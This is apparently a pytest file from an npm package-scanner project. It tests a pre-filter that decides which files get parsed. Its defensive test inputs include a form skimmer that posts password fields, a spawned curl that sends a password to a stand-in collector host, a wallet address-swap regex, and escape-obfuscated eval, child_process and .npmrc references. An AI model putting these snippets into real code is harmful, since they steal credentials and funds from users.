"""The pre-filter: files without any signal's trigger are not parsed, and nothing is lost.

Every analysis in tests/behaviour is checked against the full analysis (conftest.py); the live
test below does the same for every code file of a sample of real packages.
"""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest

from scanner.behaviour import analyse as analyse_module
from scanner.behaviour.analyse import analyse_unfiltered
from scanner.behaviour.files import FileKind, file_kind
from scanner.behaviour.model import Capability
from scanner.behaviour.parser import MAX_PARSE_BYTES
from scanner.behaviour.triggers import FileText, long_literal, module_references
from scanner.tarball.archive import read_package

from .equivalence import differences
from .snippets import analyse, details, found


def _never_parse(monkeypatch: pytest.MonkeyPatch) -> None:
    def fail(*args: object, **kwargs: object) -> None:
        raise AssertionError("parsed")

    monkeypatch.setattr(analyse_module, "parse", fail)


def test_a_file_without_triggers_is_not_parsed_and_keeps_its_requires(
    monkeypatch: pytest.MonkeyPatch, single_analysis: None
) -> None:
    _never_parse(monkeypatch)
    source = (
        "var baseGetTag = require('./_baseGetTag'),\n"
        '    isObjectLike = require("./isObjectLike");\n'
        "import { a } from './a.js';\nexport * from '../b';\n/** @returns {Function} */\n"
        "module.exports = function isSymbol(value) { return typeof value == 'symbol'; };\n"
    )
    result = analyse(source)
    assert result.signals == () and result.parsed and result.note is None
    assert result.specifiers == ("./_baseGetTag", "./isObjectLike", "./a.js", "../b")


@pytest.mark.parametrize(
    "source",
    [
        "const m = require(name);",
        "const m = require(/* x */ './a');",
        "const m = (0, require)('./a');",
        "const m = require?.('./a');",
        "const m = module['require']('./a');",
        "const m = require('./a' + suffix);",
        "const m = require(`./${name}`);",
        "const m = require.resolve(name);",
        "import(/* webpackChunkName: 'a' */ './a');",
        "import x from /* c */ './a';",
        "const m = (require as any)(x);",
    ],
)
def test_other_shapes_of_require_and_import_go_to_the_parser(source: str) -> None:
    assert module_references(source.encode()) is None


def test_member_and_prose_uses_are_not_module_references() -> None:
    source = (
        b"if (require.main === module) {}\nconst t = import.meta.url;\n"
        b"// we require that\nArray.from(x);"
    )
    assert module_references(source) == ()


def test_names_spelled_with_escapes_are_not_missed() -> None:
    assert details("window['\\x65val'](code);", Capability.DYNAMIC_CODE) == {"eval"}
    assert details("require('\\x63hild_process');", Capability.PROCESS_SPAWN) == {"child_process"}
    assert found("const p = '~/\\x2enpmrc';", Capability.CREDENTIAL_ACCESS)


def test_a_host_lower_cased_from_the_kelvin_sign_is_found() -> None:
    assert details("send('https://webhoo\u212a.site/x', d);", Capability.EXFIL_ENDPOINT)


def test_a_skimmer_hook_with_a_space_before_its_parenthesis_is_found() -> None:
    # The old keyword gate looked for ".on(" and skipped this file.
    source = (
        "form.on ('submit', () => {\n"
        "  const v = document.querySelector('input[type=password]').value;\n"
        "  fetch('/c', {method: 'POST', body: v});\n});\n"
    )
    assert details(source, Capability.SKIMMER) == {"password"}


def test_an_address_regex_of_tron_alone_reaches_the_wallet_hook() -> None:
    # The old keyword gate had no key for ``T[...]{33}`` and skipped this file.
    source = (
        "const re = new RegExp('T[1-9A-Za-z]{33}', 'g');\n"
        "body = body.replace(re, 'TXYZattackerAddressAddressAddress1');\n"
    )
    assert details(source, Capability.WALLET_HOOK) == {"address-swap"}


def test_a_spawned_downloader_is_the_network_a_skimmer_needs() -> None:
    source = (
        "const cp = require('child_process');\n"
        "form.addEventListener('submit', () => {\n"
        "  const v = document.querySelector('input[type=password]').value;\n"
        "  cp.exec('curl -d ' + v + ' https://collect.example.test');\n});\n"
    )
    assert details(source, Capability.SKIMMER) == {"password"}


def test_long_literals() -> None:
    blob = "QUJD" * 80
    assert long_literal(f"const a = '{blob}';".encode())
    template = "`" + "".join(f"ab{i:03}Xy${{ f(x, y) }}" for i in range(30)) + "`"
    assert long_literal(f"const t = {template};".encode())
    assert not long_literal(
        b"const a = 'short';\n// https://example.test/a/b/c/d/e/f/g/h/i/j/k/l/m\n"
    )


def test_the_trigger_free_share_is_visible() -> None:
    assert not FileText(b"module.exports = function add(a, b) { return a + b; };").fires(
        t
        for spec in __import__("scanner.behaviour.signals", fromlist=["x"]).all_signals()
        for t in spec.triggers
    )


# --- real packages -----------------------------------------------------------------------------

SAMPLE = (
    "lodash@4.17.21",
    "axios@1.7.7",
    "express@4.21.1",
    "chalk@5.3.0",
    "debug@4.3.7",
    "esbuild@0.23.1",
    "node-fetch@2.7.0",
    "ws@8.18.0",
    "uuid@10.0.0",
    "yargs@17.7.2",
    "semver@7.6.3",
    "request@2.88.2",
    "pino@9.5.0",
    "rollup@2.61.1",
    "axe-core@4.3.5",
    "core-js@3.38.1",
    "puppeteer@12.0.1",
    "husky@4.3.8",
    "jquery@3.7.1",
    "ajv@8.17.1",
)


def _package_cache() -> Path:
    folder = os.environ.get("DEPSCAN_TEST_PACKAGES")
    path = Path(folder) if folder else Path.home() / ".cache" / "depscan-test-packages"
    path.mkdir(parents=True, exist_ok=True)
    return path


def _tarball(spec: str, folder: Path) -> Path:
    name, version = spec.rsplit("@", 1)
    path = folder / f"{name.replace('/', '-').lstrip('@')}-{version}.tgz"
    if not path.exists():
        # npm pack downloads the tarball (npm knows the registry) without running its code.
        subprocess.run(
            ["npm", "pack", spec, "--silent"], cwd=folder, check=True, capture_output=True
        )
    return path


@pytest.mark.live
def test_the_pre_filter_finds_what_the_full_analysis_finds_in_real_packages() -> None:
    folder = _package_cache()
    checked = 0
    problems: list[str] = []
    for spec in SAMPLE:
        archive = read_package(_tarball(spec, folder).read_bytes(), spec)
        for path, entry in sorted(archive.files.items()):
            if file_kind(path, entry.data) is not FileKind.CODE:
                continue
            analyse_module._memo.clear()
            filtered = analyse_module.analyse_code(path, entry.data)
            full = analyse_unfiltered(path, entry.data, max_parse_bytes=MAX_PARSE_BYTES)
            problems.extend(f"{spec} {path}: {d}" for d in differences(filtered, full))
            checked += 1
    assert checked > 5000
    assert not problems, problems[:20]
